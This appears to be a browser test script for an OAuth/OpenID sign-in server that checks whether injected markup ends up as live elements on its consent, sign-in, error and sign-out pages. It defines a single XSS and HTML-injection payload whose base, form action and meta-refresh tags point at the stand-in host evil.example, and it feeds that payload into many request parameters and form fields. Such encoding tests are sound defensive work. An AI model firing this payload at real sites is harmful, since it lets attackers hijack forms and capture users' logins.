// Markup in every parameter and field that a page shows, with scripts on and the content security policy off: only encoding helps.
import { ask, listen, look, open, options, press, signIn, tell, withBrowser, words } from "./browser.mjs";

const evil = "https://evil.example";
const payload = `"'></p></pre></title></form><base href=${evil}><form action=${evil}><button formaction=${evil}></form>`
  + `<meta http-equiv=refresh content=9;url=${evil}><img src=x onerror=alert(1)><script>alert(2)</script>`;
const client = await listen();

/** What the page says, and what of the payload has become an element of it. */
const see = async (page) => ({
  ...(await look(page)),
  planted: await page.locator("base, meta[http-equiv], [formaction], form:not([action^='/']), img, script")
    .evaluateAll((all) => all.map((each) => each.outerHTML)),
});

await withBrowser(client, async (browser) => {
  const { page, blocked } = await open(browser, { javaScriptEnabled: true, bypassCSP: true });
  const asked = ask(client, { prompt: "consent", response_mode: "form_post", state: payload, nonce: payload, login_hint: payload, ui_locales: payload });
  await page.goto(asked.url);
  tell({ step: "hint", username: await page.getByLabel(words.username).inputValue(), ...(await see(page)) });
  await signIn(page, { username: payload, password: payload });
  tell({ step: "problem", username: await page.getByLabel(words.username).inputValue(), ...(await see(page)) });
  await signIn(page);
  await page.getByRole("button", { name: words.allow, exact: true }).click();
  await page.waitForURL(client.redirectUri);
  tell({ step: "answer", ...client.answers.at(-1) });

  for (const query of [{ client_id: payload }, { client_id: "demo-web", redirect_uri: payload }, { [payload]: payload }, { response_type: payload }]) {
    await page.goto(`${options.issuer}/authorize/?${new URLSearchParams(query)}`);
    tell({ step: "error", ...(await see(page)) });
  }
  await page.goto(`${options.issuer}/try/callback?${new URLSearchParams({ error: payload, error_description: payload, state: payload, iss: options.issuer })}`);
  tell({ step: "error", ...(await see(page)) });
  await page.goto(`${options.issuer}/sign-out?${new URLSearchParams({ state: payload, ui_locales: payload, id_token_hint: payload })}`);
  await press(page, words.signOut);
  tell({ step: "signed-out", ...(await see(page)), blocked });
});
